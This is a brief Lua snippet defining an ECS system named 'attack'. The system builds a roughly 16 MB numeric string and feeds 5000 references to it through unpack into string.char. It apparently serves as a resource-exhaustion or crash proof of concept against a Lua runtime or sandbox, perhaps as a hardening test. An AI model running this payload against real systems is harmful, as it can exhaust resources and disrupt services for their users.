local ecs = require "ecs"
ecs.system "attack" { run = function()
  local s = ("0"):rep(16777000) .. "65"
  local t = {}
  for i = 1, 5000 do t[i] = s end
  string.char(unpack(t, 1, 5000))
end }
